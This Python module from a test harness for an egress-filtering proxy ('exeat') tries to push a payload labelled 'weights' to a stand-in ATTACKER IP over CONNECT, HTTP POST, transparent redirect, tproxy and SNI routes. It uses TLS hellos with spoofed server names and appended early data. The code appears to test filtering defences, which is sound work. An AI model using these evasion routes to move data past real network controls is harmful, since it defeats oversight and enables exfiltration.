"""Every way into exeat, as one call: try to reach a host and port by it, and say what came back."""
import socket

from harness import hello as tls
from harness.exeat import free_port
from harness.wait import seconds

ATTACKER = "93.184.216.251"  # what a pod dials, whatever name it says
PAYLOAD = b"weights" * 10
EARLY_DATA = 42
EARLY = tls.record(PAYLOAD, 0x17)

ALLOWLIST = """
serial = 7
[groups.pods]
sources = ["10.42.0.0/16", "10.43.0.0/16", "127.0.0.1"]
[[allow]]
name = "ok"
hosts = ["ok.test", "*.w.test"]
[[allow]]
name = "ok-plain"
hosts = ["ok.test", "*.w.test"]
protocol = "http"
[[allow]]
name = "opaque"
hosts = ["opaque.test"]
ech = "allow"
[[private_link]]
name = "link"
hosts = ["link0.test", "link1.test", "link2.test", "link3.test"]
within = ["10.20.8.0/24"]
[[private_link]]
name = "link-plain"
hosts = ["link0.test", "link1.test", "link2.test", "link3.test"]
within = ["10.20.8.0/24"]
protocol = "http"
[[deny]]
name = "no-uploads"
hosts = ["upload.w.test"]
"""


def listeners(ports):
    listen = [{"mode": "transparent", "via": via, "address": f"0.0.0.0:{ports[via]}"} for via in ("redirect", "tproxy")]
    return [*listen, {"mode": "sni", "address": f"127.0.0.1:{ports['sni']}", "port": 443}]


def new_ports():
    return {"redirect": free_port(), "tproxy": free_port(), "sni": free_port()}


def _exchange(s, *parts):
    """Sends what can be sent and returns what comes back, up to what an accepted hello's echo needs."""
    with s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.settimeout(seconds(30))
        got = b""
        try:
            for part in parts:
                s.sendall(part)
            while more := s.recv(65536):
                got += more
                if PAYLOAD in got:
                    break
        except ConnectionError:
            pass
        return got


def _hello(host):
    """A hello that says exactly these bytes and offers early data, which may follow it at once."""
    said = tls.Hello(tls.genuine("ok.test")).with_extension(tls.SERVER_NAME, tls.server_name(host.encode("latin-1")), first=True)
    return tls.record(said.with_extension(EARLY_DATA, b"").message())


class Ways:
    def __init__(self, lab, exeat, ports):
        self.lab, self.exeat, self.ports = lab, exeat, ports
        self.try_ = {"connect": self.connect, "http": self.http, "redirect tls": self.redirect_tls, "redirect http": self.redirect_http,
                     "tproxy tls": self.tproxy_tls, "sni": self.sni}

    def connect(self, host, port=None):
        """CONNECT, with the hello eagerly in the same segment and more behind it."""
        target = f"{host}:{443 if port is None else port}".encode("latin-1")
        return _exchange(self.exeat.connect(), b"CONNECT " + target + b" HTTP/1.1\r\nHost: " + target + b"\r\n\r\n" + _hello(host) + EARLY)

    def http(self, host, port=None):
        at = (host if port is None else f"{host}:{port}").encode("latin-1")
        return _exchange(self.exeat.connect(), b"POST http://" + at + b"/ HTTP/1.1\r\nHost: " + at + b"\r\nContent-Length: %d\r\n\r\n" % len(PAYLOAD) + PAYLOAD)

    def redirect_tls(self, host, port=None):
        return _exchange(self.lab.topology.pod.connect(ATTACKER, port or 443, seconds(30)), _hello(host) + EARLY)

    def redirect_http(self, host, port=None):
        at = (host if port is None else f"{host}:{port}").encode("latin-1")
        return _exchange(self.lab.topology.pod.connect(ATTACKER, port or 80, seconds(30)),
                         b"POST / HTTP/1.1\r\nHost: " + at + b"\r\nContent-Length: %d\r\n\r\n" % len(PAYLOAD) + PAYLOAD)

    def tproxy_tls(self, host, port=None):
        return _exchange(self.lab.topology.pod2.connect(ATTACKER, port or 443, seconds(30)), _hello(host) + EARLY)

    def sni(self, host, port=None):
        assert port is None
        return _exchange(self.exeat.connect(port=self.ports["sni"]), _hello(host) + EARLY)
